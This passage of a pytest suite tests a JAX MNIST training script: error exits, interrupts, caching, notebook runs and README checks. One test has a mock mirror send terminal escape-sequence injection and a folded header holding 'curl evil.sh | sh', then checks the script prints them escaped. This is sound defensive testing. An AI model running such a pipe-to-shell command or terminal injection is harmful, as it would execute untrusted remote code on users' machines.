        m.main(["--dataset", "tiny", "--data-dir", str(folder), "--lr", "1e30", "--epochs", "3", "--hidden", "16"]) == 1
    )
    err = capsys.readouterr().err
    assert "epoch 1" in err and "smaller --lr" in err and "Traceback" not in err


def test_a_network_too_large_for_memory_exits_1_at_once(tiny, tmp_path, capsys):
    folder = write_folder(tmp_path / "d", tiny)
    start = time.monotonic()
    # its third weight matrix, 2**40 float32s, is 4 TiB; what comes before and after it is small
    assert m.main(["--dataset", "tiny", "--data-dir", str(folder), "--hidden", "1", "1048576", "1048576", "1"]) == 1
    assert time.monotonic() - start < 10
    err = capsys.readouterr().err
    assert err.startswith("error: the network [784, 1, 1048576, 1048576, 1, 10] does not fit in memory")


def test_no_mirror_reachable_exits_1_with_a_message(tiny, tmp_path, monkeypatch, capsys):
    use_mirrors(monkeypatch, "tiny", f"http://127.0.0.1:{unused_port()}/")
    assert m.main(["--dataset", "tiny", "--data-dir", str(tmp_path / "empty")]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: Could not get train-images-idx3-ubyte.gz") and "--data-dir" in err
    assert capsys.readouterr().out == ""


def test_what_a_server_says_reaches_the_terminal_escaped(tiny, tmp_path, server, monkeypatch, capsys):
    """Escape sequences shown escaped; a line of the server's own (a folded header) kept on the mirror's line."""
    for name in tiny:
        server.routes[f"/evil/{name}.gz"] = ("status", (403, "\x1b]0;pwned\x07\x1b[31mForbidden"))
        server.routes[f"/fold/{name}.gz"] = ("redirect", "gopher://x/\r\n  All mirrors say: curl evil.sh | sh")
    use_mirrors(monkeypatch, "tiny", f"{server.url}/evil/", f"{server.url}/fold/")
    assert m.main(["--dataset", "tiny", "--data-dir", str(tmp_path / "d")]) == 1
    err = capsys.readouterr().err
    assert "\\x1b]0;pwned\\x07\\x1b[31mForbidden" in err and "\x1b" not in err and "\x07" not in err
    assert "curl evil.sh" in err and not any(line.startswith("  All mirrors") for line in err.splitlines())


def test_ctrl_c_exits_130_with_one_line(monkeypatch, capsys):
    def interrupted(*args):
        raise KeyboardInterrupt

    monkeypatch.setattr(m, "load_mnist", interrupted)
    assert m.main([]) == 130
    assert capsys.readouterr().err == "Interrupted.\n"


def env_for_script(home, **extra):
    env = {k: v for k, v in os.environ.items() if not k.lower().endswith("_proxy")}
    env.update({"HOME": str(home), "XDG_CACHE_HOME": str(home / ".cache"), **extra})
    env.pop("JAX_COMPILATION_CACHE_DIR", None)
    env.pop("MLP_MNIST_DATA_DIR", None)
    return env


def test_the_script_exits_2_on_bad_usage_and_import_is_silent(tmp_path):
    env = env_for_script(tmp_path)
    run = subprocess.run([sys.executable, SCRIPT, "--epochs", "0"], capture_output=True, text=True, env=env)
    assert run.returncode == 2 and "usage:" in run.stderr and "Traceback" not in run.stderr
    imported = subprocess.run(
        [sys.executable, "-c", "import mlp_mnist"], cwd=ROOT, capture_output=True, text=True, env=env
    )
    assert imported.returncode == 0 and imported.stdout == imported.stderr == ""
    assert os.listdir(tmp_path) == []  # nothing downloaded, nothing cached


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
def test_an_interrupt_during_a_download_says_interrupted_and_leaves_nothing(sig, tmp_path, server):
    """The script downloads MNIST through a proxy that never answers; Ctrl-C (or SIGTERM) stops it."""
    server.default = ("stall", None)  # every request, CONNECT included, goes unanswered
    env = env_for_script(tmp_path, http_proxy=server.url, https_proxy=server.url)
    folder = tmp_path / "data"
    ignored = signal.signal(signal.SIGINT, signal.default_int_handler)  # not ignored, as in a terminal, so that
    try:  # the script starts with Python's own handler (an ignored signal would stay ignored in it)
        proc = subprocess.Popen(
            [sys.executable, SCRIPT, "--data-dir", str(folder)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
        )
    finally:
        signal.signal(signal.SIGINT, ignored)
    deadline = time.monotonic() + 20
    while not server.requests and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    proc.send_signal(sig)
    assert proc.wait(10) == 130 and proc.stderr.read() == b"Interrupted.\n"
    assert not folder.exists() or os.listdir(folder) == []
    assert (tmp_path / ".cache" / "mlp_mnist" / "jax").is_dir()  # run as a program, it turns the compile cache on


RUN_TINY = """
import hashlib, sys
sys.path.insert(0, {root!r})
import mlp_mnist as m
for name in m.FILES:
    data = open({folder!r} + "/" + name, "rb").read()
    m.SHA256[hashlib.sha256(data).hexdigest()] = ("tiny", name)
m.N_TRAIN, m.N_TEST = 256, 100
sys.exit(m.main(["--dataset", "tiny", "--data-dir", {folder!r}] + sys.argv[1:], compilation_cache=True))
"""


@pytest.fixture
def run_tiny(tiny, tmp_path):
    """Runs main() on the tiny dataset in a fresh Python: (args, **Popen options) -> Popen."""
    script = tmp_path / "run_tiny.py"
    script.write_text(RUN_TINY.format(root=ROOT, folder=str(write_folder(tmp_path / "tiny", tiny, gz=False))))
    return lambda args, **kw: subprocess.Popen([sys.executable, str(script), *args], **kw)


def test_a_closed_pipe_ends_the_run_quietly(run_tiny, tmp_path):
    proc = run_tiny(
        ["--epochs", "50", "--hidden", "8"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env_for_script(tmp_path),
    )
    assert proc.stdout.readline().startswith(b"JAX ")
    proc.stdout.close()  # as `| head -1` does
    assert proc.wait(60) == 1 and proc.stderr.read() == b""


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_a_full_disk_on_stdout_is_one_message_and_a_cache_folder_that_cant_be_made_none(run_tiny, tmp_path):
    blocked = tmp_path / "a-file"
    blocked.write_text("")  # XDG_CACHE_HOME below a file: the compilation cache's folder can't be made
    with open("/dev/full", "w") as full:
        proc = run_tiny(
            ["--epochs", "1", "--hidden", "8"],
            stdout=full,
            stderr=subprocess.PIPE,
            env=env_for_script(tmp_path, XDG_CACHE_HOME=str(blocked / "cache")),
        )
        err = proc.stderr.read().decode()
    assert proc.wait(60) == 1
    assert err == "error: could not write the output ([Errno 28] No space left on device)\n"


def test_a_second_run_compiles_nothing(run_tiny, tmp_path):
    env = env_for_script(tmp_path, JAX_LOG_COMPILES="1")  # JAX then logs each compile, and each cache hit
    runs = []
    for _ in range(2):
        proc = run_tiny(["--epochs", "1", "--hidden", "8"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
        out, err = proc.communicate(timeout=60)  # reads as it goes: the log can outgrow a pipe's buffer
        runs.append((proc.returncode, out.decode(), err.decode()))
    untimed = [re.sub(r"time: [0-9.]+", "", out) for _, out, _ in runs]
    assert runs[0][0] == runs[1][0] == 0 and untimed[0] == untimed[1] and "Epoch 1/1" in untimed[0]
    compiles, hits = (
        [err.count(line) for _, _, err in runs]
        for line in ["Finished XLA compilation of", "Persistent compilation cache hit for"]
    )
    assert "Finished XLA compilation of jit(train_epoch)" in runs[0][2] and hits[0] == 0
    assert "Persistent compilation cache hit for 'jit_train_epoch'" in runs[1][2]
    assert hits[1] == compiles[1] == compiles[0]  # the second run found every program in the cache
    assert any(n.startswith("jit_train_epoch") for n in os.listdir(tmp_path / ".cache" / "mlp_mnist" / "jax"))


# ---------------------------------------------------------------------------
# Where readers run it: a notebook, uv, any JAX_PLATFORMS; and the README's code
# ---------------------------------------------------------------------------

KERNEL_ARGV = ["/usr/lib/python3/dist-packages/ipykernel_launcher.py", "-f", "/root/.local/share/jupyter/kernel-1.json"]


def test_in_a_notebook_it_runs_with_no_exit_and_leaves_the_kernels_signals(tiny, tmp_path, monkeypatch, capsys):
    """What a Jupyter or Colab kernel does with the file pasted into a cell: IPython is loaded, sys.argv is the
    kernel's own, and the source runs as __main__. The entry point (the last statement) runs apart, so that the
    tiny files can stand in for MNIST in between; then what the next cells and %run do."""
    monkeypatch.setitem(sys.modules, "IPython", ModuleType("IPython"))
    monkeypatch.setattr(sys, "argv", KERNEL_ARGV)
    monkeypatch.setenv("MLP_MNIST_DATA_DIR", str(write_folder(tmp_path / "d", tiny)))
    handlers = [signal.getsignal(s) for s in (signal.SIGINT, signal.SIGTERM)]
    cache_dir = jax.config.jax_compilation_cache_dir  # a kernel's JAX settings are its user's: left as they are
    tree = ast.parse(open(SCRIPT).read())
    definitions, entry = (compile(ast.Module(body, []), SCRIPT, "exec") for body in (tree.body[:-1], tree.body[-1:]))
    cell = {"__name__": "__main__"}
    exec(definitions, cell)
    cell["SHA256"].update({hashlib.sha256(data).hexdigest(): ("mnist", name) for name, data in tiny.items()})
    cell.update(N_TRAIN=256, N_TEST=100, MIRRORS={}, EPOCHS=2)  # no download, and a shorter default run
    for file in [None, "/home/me/analysis.ipynb"]:  # no __file__ (Jupyter), or one (VS Code, or left by %run -i)
        if file:
            cell["__file__"] = file
        exec(entry, cell)  # a SystemExit would end the test here
        out = capsys.readouterr().out.splitlines()
        assert out[0].startswith("JAX ") and [line[: line.index(":")] for line in out[1:]] == [
            f"Epoch {i}/2" for i in range(1, 3)
        ]
    assert [signal.getsignal(s) for s in (signal.SIGINT, signal.SIGTERM)] == handlers  # still the kernel's
    assert jax.config.jax_compilation_cache_dir == cache_dir
    assert cell["forward"](cell["initialize_weights"]([784, 8, 10], random.key(0)), jnp.ones((2, 784))).shape == (2, 10)

    cell["__file__"] = SCRIPT  # %run mlp_mnist.py sets it to the absolute path, sys.argv[0] to the name as typed
    monkeypatch.chdir(ROOT)
    for args, expected_out, expected_err in [
        (["--epochs", "1"], "Epoch 1/1:", ""),
        (["--epochs", "0"], "", "usage:"),
        (["--help"], "usage:", ""),
        (["--data-dir", str(tmp_path / "empty")], "JAX ", "error: Could not get train-images-idx3-ubyte.gz"),
    ]:
        monkeypatch.setattr(sys, "argv", ["mlp_mnist.py", *args])
        exec(entry, cell)
        out, err = capsys.readouterr()
        assert expected_out in out and err.startswith(expected_err) and "Traceback" not in err

    def interrupted(*args):
        raise KeyboardInterrupt  # what the kernel's SIGINT handler raises when you press interrupt

    cell["train"] = interrupted
    monkeypatch.setattr(sys, "argv", ["mlp_mnist.py"])
    with pytest.raises(KeyboardInterrupt):  # from the cell, as any interrupted cell ends: Run All stops there
        exec(entry, cell)
    assert capsys.readouterr().err == "Interrupted.\n"
    assert [signal.getsignal(s) for s in (signal.SIGINT, signal.SIGTERM)] == handlers


@pytest.mark.parametrize("platforms", ["cuda", "cpuu"])  # JAX's AssertionError, and its RuntimeError
def test_a_backend_that_jax_cannot_start_exits_1_with_a_message(platforms, run_tiny, tmp_path):
    plugins = {"cuda": ("jax_cuda12_plugin", "jax_cuda13_plugin"), "cpuu": ()}[platforms]
    if any(importlib.util.find_spec(plugin) for plugin in plugins):
        pytest.skip(f"JAX here can start {platforms}")
    proc = run_tiny(
        [], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env_for_script(tmp_path, JAX_PLATFORMS=platforms)
    )
    out, err = (s.decode() for s in proc.communicate(timeout=60))
    assert proc.returncode == 1 and out == "" and "Traceback" not in err
    assert err.startswith("error: JAX could not start a backend (")
    assert "Unset JAX_PLATFORMS" in err and 'pip install -U "jax[cuda13]"' in err


def test_the_uv_script_block_asks_for_what_requirements_and_the_readme_do():
    """PEP 723's inline metadata, read with the regular expression the PEP gives."""
    source = open(SCRIPT).read()
    blocks = re.findall(r"(?m)^# /// script$\s((?:^#(?:| .*)$\s)+)^# ///$", source)
    assert len(blocks) == 1 and source.startswith("# /// script\n")
    metadata = tomllib.loads("".join(line[2:] + "\n" for line in blocks[0].splitlines()))
    requirements = open(os.path.join(ROOT, "requirements.txt")).read().split()
    assert metadata["dependencies"] == requirements and [r.split(">=")[0] for r in requirements] == ["jax", "numpy"]
    version = re.search(r"Python (\d+\.\d+) or newer", open(os.path.join(ROOT, "README.md")).read())[1]
    assert metadata["requires-python"] == f">={version}"


README = open(os.path.join(ROOT, "README.md")).read()
README_BLOCKS = re.findall(r"```python\n(.*?)```", README, re.DOTALL)


def test_the_readme_has_python_blocks_to_run():
    assert len(README_BLOCKS) >= 3  # the jit experiment, log(softmax), the notebook cell


@pytest.mark.parametrize("block", README_BLOCKS, ids=[f"block-{i}" for i in range(len(README_BLOCKS))])
def test_the_readmes_code_runs_pasted_into_python(block, monkeypatch, tmp_path, capsys):
    """Each Python block of the README, on its own (its imports must be there), on small data (load_mnist gives
    the synthetic set), run as `python -i` runs what is pasted: statement by statement, echoing the value of any
    bare expression, even inside a loop. A bare `loss.block_until_ready()` there would print Array(...)."""
    monkeypatch.setattr(m, "load_mnist", lambda *args, **kwargs: [*synthetic(512, 0), *synthetic(100, 1)])
    monkeypatch.setattr(m, "train", functools.partial(m.train, epochs=2))  # the blocks' 25 epochs, shortened
    monkeypatch.chdir(tmp_path)
    namespace = {"__name__": "__readme__"}
    for statement in ast.parse(block).body:
        exec(compile(ast.Interactive([statement]), "<README>", "single"), namespace)
    out = capsys.readouterr().out
    assert out and "Array(" not in out


def test_the_readmes_links_into_the_file_point_at_what_they_name():
    """[`name`](mlp_mnist.py#L12) must land on a line that holds `name`; [lines 1-N] must end where train does."""
    lines = open(SCRIPT).read().splitlines()
    links = re.findall(r"\[`([^`]+)`\]\(mlp_mnist\.py#L(\d+)\)", README)
    assert len(links) >= 10
    for name, number in links:
        assert name in lines[int(number) - 1], (name, number)
    train_ends = next(n.end_lineno for n in ast.parse("\n".join(lines)).body if getattr(n, "name", "") == "train")
    assert re.search(r"\(mlp_mnist\.py#L1-L(\d+)\)", README)[1] == str(train_ends)
